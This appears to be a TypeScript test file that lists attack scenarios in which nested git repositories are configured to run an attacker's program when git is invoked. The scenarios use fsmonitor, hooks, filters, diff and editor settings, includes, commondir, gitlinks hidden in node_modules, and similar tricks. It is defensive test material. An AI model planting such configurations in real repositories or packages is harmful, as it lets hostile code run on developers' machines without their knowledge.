import { join } from "node:path";
import type { Attack } from "../attack.ts";
import type { Scene } from "../scene.ts";
import { asFsmonitor, git } from "./git.ts";

/** A repository at `folder` whose configuration has one more setting. */
const nested = (name: string, setting: (s: Scene) => string, extra: (s: Scene) => string = () => ""): Attack =>
  git(
    `new nested repository with ${name}`,
    (s) =>
      `git init -q n && cd n && echo x > tracked && git add -A && git commit -qm x && echo y >> tracked; git config ${setting(s)}; ${extra(s)}`,
    {
      folders: ["n"],
      afterwards: (s) => {
        s.host(["git", "-C", join(s.workspace, "n"), "x"]);
      },
    },
  );

/** A repository at `folder` in which git runs a program of the attacker's. */
const planted = (s: Scene, folder: string): string =>
  `(git init -q ${folder} && cd ${folder} && echo x > tracked && git add -A && git commit -qm x && git config core.fsmonitor ${s.evil})`;

const asGitlink = (folder: string): string =>
  `git update-index --add --cacheinfo 160000,$(git -C ${folder} rev-parse HEAD),${folder}`;

/** A repository that git goes into because another one's index names it. */
const named = (name: string, folder: string, script: Attack["script"]): Attack =>
  git(`repository that is named ${name}`, script, { folders: [folder.split("/")[0] ?? folder] });

export const nestedGitAttacks: readonly Attack[] = [
  nested("core.fsmonitor", (s) => `core.fsmonitor ${s.evil}`),
  nested(
    "core.hooksPath",
    (s) => `core.hooksPath ${s.workspace}/hk`,
    (s) => `mkdir ../hk; cp ${s.evil} ../hk/post-index-change`,
  ),
  nested(
    "a hook",
    () => "user.name x",
    (s) => `cp ${s.evil} .git/hooks/post-index-change`,
  ),
  nested(
    "a filter",
    (s) => `filter.f.clean ${s.evil}`,
    () => "echo '* filter=f' > .gitattributes",
  ),
  nested(
    "a long-running filter",
    (s) => `filter.f.process ${s.evil}`,
    () => "echo '* filter=f' > .gitattributes",
  ),
  nested(
    "a program that shows differences",
    (s) => `diff.d.textconv ${s.evil}`,
    () => "echo '* diff=d' > .gitattributes",
  ),
  nested("an external diff", (s) => `diff.external ${s.evil}`),
  nested("an alias", (s) => `alias.x '!${s.evil}'`),
  nested(
    "a program that signs",
    (s) => `gpg.program ${s.evil}`,
    () => "git config commit.gpgsign true",
  ),
  nested(
    "an editor",
    (s) => `core.editor ${s.evil}`,
    () => "git config commit.verbose true",
  ),
  nested(
    "an included file",
    () => "include.path ../../included",
    (s) => `${asFsmonitor(s)} > ../included`,
  ),
  nested(
    "a conditionally included file",
    () => "includeIf.gitdir:/.path ../../included",
    (s) => `${asFsmonitor(s)} > ../included`,
  ),
  nested(
    "configuration behind a link",
    () => "user.name x",
    (s) => `${asFsmonitor(s)} > ../cfg; ln -sf ../../cfg .git/config`,
  ),
  nested(
    "configuration in a named pipe",
    () => "user.name x",
    () => "rm .git/config; mkfifo .git/config",
  ),
  nested(
    "a time set back",
    (s) => `core.fsmonitor ${s.evil}`,
    () => "touch -d 2001-01-01 .git/config .git . ..",
  ),
  nested(
    "commondir",
    () => "user.name x",
    (s) => `cp -r .git ../fk; ${asFsmonitor(s)} > ../fk/config; echo ${s.workspace}/fk > .git/commondir`,
  ),
  nested(
    "a hook in a folder that cannot be listed",
    () => "user.name x",
    (s) => `cp ${s.evil} .git/hooks/post-index-change; chmod 0311 .git/hooks`,
  ),
  nested(
    "configuration in folders that cannot be listed",
    (s) => `core.fsmonitor ${s.evil}`,
    () => "chmod 0311 .git . ..",
  ),
  named(
    "in an installed package",
    "node_modules/p/deep",
    (s) => `${planted(s, "node_modules/p/deep")}; ${asGitlink("node_modules/p/deep")}`,
  ),
  named(
    "by the index of a nested repository",
    "n/node_modules/p/deep",
    (s) =>
      `git init -q n; cd n; git commit -q --allow-empty -m x; ${planted(s, "node_modules/p/deep")}; ${asGitlink("node_modules/p/deep")}; cd ..; ${asGitlink("n")}`,
  ),
  named(
    "by an index in two files",
    "node_modules/p/deep",
    (s) =>
      `${planted(s, "node_modules/p/deep")}; git update-index --split-index; ${asGitlink("node_modules/p/deep")}; git update-index --split-index`,
  ),
  named(
    "from a working tree elsewhere",
    "n",
    (s) =>
      `${planted(s, "w/node_modules/p/deep")}; git init -q n; git -C n config core.worktree ../../w; cd w; git --git-dir ../n/.git --work-tree . update-index --add --cacheinfo 160000,$(git -C node_modules/p/deep rev-parse HEAD),node_modules/p/deep`,
  ),
  git(
    "new nested repository in a folder whose name is no UTF-8",
    (s) => `${planted(s, "n")}; d=$(printf 'vendor\\377'); mkdir "$d"; mv n "$d/n"`,
    {
      afterwards: (s) => {
        s.host(["sh", "-c", "cd \"$(printf 'vendor\\377')/n\" && git status; git log -1; git diff"]);
      },
    },
  ),
];
